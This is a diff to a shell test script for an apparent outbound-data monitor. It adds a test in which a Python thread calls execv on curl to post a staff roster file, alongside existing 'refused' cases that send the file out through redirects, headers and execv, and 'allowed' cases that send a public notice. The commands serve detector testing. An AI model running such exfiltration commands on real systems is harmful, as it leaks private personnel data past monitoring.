@@ -101,8 +101,11 @@ refused redirect "$C --data-binary \"\$(<'$U/staff.csv')\" $URL"
 refused header "$C -H \"X-Roster: \$(tr '\n' ' ' <'$U/staff.csv')\" $URL"
 # started by a program other than a shell: python3's execv, the strings on its heap
 refused python "python3 -c 'import os, sys; d = open(sys.argv[1]).read(); os.execv(\"/usr/bin/curl\", [\"curl\", \"-s\", \"-m\", \"10\", \"-o\", \"/dev/null\", \"-d\", d, \"$URL\"])' '$U/staff.csv'"
+# execv from a second thread: the event names the process, the call is the thread's
+refused thread "python3 -c 'import os, sys, threading; d = open(sys.argv[1]).read(); t = threading.Thread(target=lambda: os.execv(\"/usr/bin/curl\", [\"curl\", \"-s\", \"-m\", \"10\", \"-o\", \"/dev/null\", \"-d\", d, \"$URL\"])); t.start(); t.join()' '$U/staff.csv'"
 
 # --- allowed ------------------------------------------------------------------------------
+allowed thread-public "python3 -c 'import os, sys, threading; d = open(sys.argv[1]).read(); t = threading.Thread(target=lambda: os.execv(\"/usr/bin/curl\", [\"curl\", \"-s\", \"-m\", \"10\", \"-o\", \"/dev/null\", \"-H\", \"Expect:\", \"-d\", d, \"$URL\"])); t.start(); t.join()' '$U/notice.txt'" 'public notice'
 allowed public "$C --data-binary \"\$(cat '$U/notice.txt')\" -H 'X-Id: 12345' $URL" 'public notice'
 # a long command line: 100,000 arguments (curl joins them into its body)
 allowed long "$C \$(seq -f '-dx%.0f' 100000) -d long-one $URL" 'long-one'
